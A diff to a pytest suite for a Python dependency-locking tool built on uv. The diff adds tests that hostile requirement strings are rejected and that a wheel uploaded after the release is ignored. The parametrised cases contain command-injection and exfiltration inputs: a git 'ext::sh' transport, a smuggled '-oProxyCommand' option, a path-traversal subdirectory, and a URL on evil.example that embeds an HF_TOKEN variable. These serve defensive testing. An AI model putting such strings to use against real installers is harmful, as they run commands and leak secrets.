@@ -153,7 +153,6 @@ def test_an_index_without_hashes_is_hashed_here(store: Store) -> None:
         (["nowhere==1.0"], "nowhere", "python.exclude"),
         (["alpha==9"], r"no version of alpha==9", "python.packages"),
         (["alpha==1.0+cu999"], r"alpha==1\.0\+cu999", r"Name where alpha 1\.0\+cu999 lies with --find-links"),
-        (["source"], "source", r"Only wheels for Python 3\.11 on x86_64-manylinux_2_36"),
         (["windows"], "windows", "Only wheels"),
     ],
 )
@@ -162,7 +161,6 @@ def test_what_cannot_be_resolved_is_one_sentence_and_a_way_out(
 ) -> None:
     index = Index()
     index.add("alpha", "1.0")
-    index.add_sdist("source", "1.0")
     index.add("windows", "1.0", tag="cp311-cp311-win_amd64")
     with pytest.raises(Unresolvable, match=f"{said}.*{hint}") as caught:
         lock(index, requirements, store)
@@ -201,8 +199,13 @@ def test_a_mirrored_index_is_asked_instead(store: Store) -> None:
         ("alpha @ file:///srv/x.whl", UnsafeInput),
         ("alpha @ ext::sh", UnsafeInput),
         ("alpha @ git+https://code.example/a", Unresolvable),
-        ("alpha @ git+file:///srv/a", Unresolvable),
-        ("alpha @ https://code.example/a.tar.gz", Unresolvable),
+        ("alpha @ git+https://code.example/a@main", Unresolvable),
+        ("alpha @ git+file:///srv/a", UnsafeInput),
+        ("alpha @ git+ext::sh%20-c@0123456789012345678901234567890123456789", UnsafeInput),
+        ("alpha @ git+https://-oProxyCommand=x/a@0123456789012345678901234567890123456789", UnsafeInput),
+        ("alpha @ git+https://h.example/a@0123456789012345678901234567890123456789#subdirectory=../x", UnsafeInput),
+        ("alpha @ http://code.example/a.tar.gz", Unresolvable),
+        ("alpha @ hg+https://code.example/a", Unresolvable),
         ("alpha @ http://code.example/a-1-py3-none-any.whl", Unresolvable),
         # uv would put the user's own environment variable there and send it
         ("alpha @ https://evil.example/${HF_TOKEN}/a-1-py3-none-any.whl", UnsafeInput),
@@ -212,8 +215,7 @@ def test_a_mirrored_index_is_asked_instead(store: Store) -> None:
 def test_hostile_requirements_never_reach_uv(requirement: str, error: type[CpackError]) -> None:
     with pytest.raises(error) as caught:
         parse_requirements([requirement])
-    if "@" in requirement:
-        assert "python.exclude: [alpha]" in str(caught.value)
+    assert str(caught.value)
     assert parse_requirements([requirement], exclude=["alpha"]) == [] if "@" in requirement else True
 
 
@@ -242,6 +244,17 @@ def test_the_service_takes_its_pins_and_nothing_else(store: Store) -> None:
             text, target=TARGET, store=store, sources=Sources(), index_url=f"{server.url}/simple/"
         )
     assert versions(environment) == {"alpha": "1.0"}
+
+
+def test_a_better_wheel_that_came_after_the_release_is_not_looked_at(store: Store) -> None:
+    index = Index()
+    text = f"alpha==1.0 --hash=sha256:{index.add('alpha', '1.0')}\n"
+    index.add("alpha", "1.0", tag="cp311-cp311-manylinux_2_28_x86_64")
+    with index.serve() as server:
+        environment = lock_service(
+            text, target=TARGET, store=store, sources=Sources(), index_url=f"{server.url}/simple/"
+        )
+    assert [wheel.filename for wheel in wheels_of(environment)] == ["alpha-1.0-py3-none-any.whl"]
 
 
 def test_the_service_refuses_other_bytes(store: Store) -> None:
